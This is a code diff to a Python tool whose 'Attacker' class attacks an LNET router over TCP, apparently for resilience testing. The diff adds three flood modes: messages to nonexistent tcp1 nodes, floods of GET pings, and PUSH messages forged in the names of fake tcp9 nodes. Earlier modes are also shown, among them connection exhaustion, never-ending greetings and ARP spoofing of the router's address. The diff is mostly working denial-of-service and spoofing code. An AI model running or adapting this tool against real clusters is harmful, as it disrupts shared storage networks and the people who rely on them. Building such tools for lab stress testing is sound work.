@@ -10,6 +10,8 @@ holders: opens --per connections of each address as a kernel node does, and keep
 segments: as holders, and each connection then says 40 bytes, one in each segment.
 dead: keeps two connections of each address, and sends PUTs of 4,097 bytes to nodes of net tcp1 that there are not.
 thief: tells the router alone, 50 times a second, that the router's address is its own (ARP).
+strangers, askers, forgers: hold --per connections of each address, and send over them, as fast as they are taken, messages for
+    nodes of net tcp1 that there are not, pings, and PUSHes in the names of nodes of net tcp9 that there are not.
 greetings: holds --per connections of each address open, whose greeting comes byte by byte and never ends.
 
 Prints a line `N made, N ended, N refused` each second. Ends when it is killed, or its parent ends.
@@ -32,6 +34,11 @@ from lnetpy import nid as N     # noqa: E402
 from lnetpy import wire         # noqa: E402
 
 
+FLOODS = ("strangers", "askers", "forgers")
+SENDERS = ("dead", *FLOODS)
+BATCH, TURN = 100, 0.05     # messages of a connection at once, and s between
+
+
 class Attacker:
     def __init__(self, options):
         self.o = options
@@ -43,6 +50,8 @@ class Attacker:
         self.low = {a: itertools.cycle(range(1023, 512, -1)) for a in options.source}
         self.incarnation = time.time_ns()
         self.mac = self.raw = None
+        self.up = set()
+        self.serial = itertools.count()
 
     def call(self, address, port):
         s = socket.socket(self.family, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
@@ -61,6 +70,7 @@ class Attacker:
 
     def drop(self, fd, rst=False):
         s, address, *_ = self.open.pop(fd)
+        self.up.discard(fd)
         if rst:
             with contextlib.suppress(OSError):
                 s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
@@ -73,7 +83,7 @@ class Attacker:
                 self.refused += 1
                 self.drop(fd)
                 continue
-            if fd in self.open and what & select.EPOLLOUT and self.o.what in ("holders", "segments", "dead"):
+            if fd in self.open and what & select.EPOLLOUT and self.o.what in ("holders", "segments", *SENDERS):
                 self.greet(fd)
                 self.say_more(fd)
             if fd in self.open and what & select.EPOLLIN:
@@ -86,6 +96,8 @@ class Attacker:
                 self.ended += 1
                 if self.o.what != "callers":
                     self.drop(fd, rst=True)
+            elif self.o.what in FLOODS:
+                self.up.add(fd)
             elif self.o.what == "dead" and not self.open[fd][3]:
                 self.open[fd][3] = self.puts(fd)
                 self.say_more(fd)
@@ -102,7 +114,7 @@ class Attacker:
     def say_more(self, fd):
         row = self.open[fd]
         with contextlib.suppress(OSError):
-            while row[3] and self.o.what == "dead":
+            while row[3] and self.o.what in SENDERS:
                 row[3] = row[3][row[0].send(row[3]):]
 
     def greet(self, fd):
@@ -124,6 +136,32 @@ class Attacker:
         for address in self.o.source:
             if self.count[address] < self.o.per and due > 0 and self.call(address, next(self.low[address])):
                 due -= 1
+
+    def message(self, i, source):
+        """The next of a flood."""
+        router, handle = N.parse(f"{self.o.router}@tcp"), i.to_bytes(16, "little")
+        if self.o.what == "askers":
+            return wire.Header(router, source, wire.GET, 0, wire.get_union(handle, wire.PING_MATCH, 0, 272)), b""
+        if self.o.what == "forgers":
+            forged = N.parse(f"172.16.{i >> 8 & 255}.{i & 255}@tcp9")
+            info = wire.PingInfo(wire.F_NI_STATUS | wire.F_MULTI_RAIL | wire.F_DISCOVERY, i + 1, [(forged, wire.UP)]).pack()
+            return wire.Header(router, forged, wire.PUT, len(info), wire.put_union(handle, wire.PING_MATCH, 0)), info
+        to = N.parse(f"{self.o.far.split('.')[0]}.{i >> 16 & 255}.{i >> 8 & 255}.{i & 255}@tcp1")
+        return wire.Header(to, source, wire.PUT, 0, wire.put_union(handle, 5, 7)), b""
+
+    def flood(self, now, began):
+        self.holders(now, began)
+        if now < self.turn:
+            return
+        self.turn = now + TURN
+        for fd in self.up:
+            row = self.open[fd]
+            if not row[3]:
+                batch = (self.message(next(self.serial), N.parse(row[1] + "@tcp")) for _ in range(BATCH))
+                row[3] = b"".join(wire.frame(wire.LNET) + h.pack(False) + p for h, p in batch)
+            self.say_more(fd)
+
+    strangers = askers = forgers = flood
 
     def segments(self, now, began):
         self.holders(now, began)
@@ -195,7 +233,7 @@ class Attacker:
 
 def main():
     parser = argparse.ArgumentParser()
-    parser.add_argument("what", choices=("callers", "holders", "segments", "dead", "thief", "greetings"))
+    parser.add_argument("what", choices=("callers", "holders", "segments", *SENDERS, "thief", "greetings"))
     parser.add_argument("--router", required=True)
     parser.add_argument("--from", dest="source", nargs="+", required=True)
     parser.add_argument("--per", type=int, default=32)
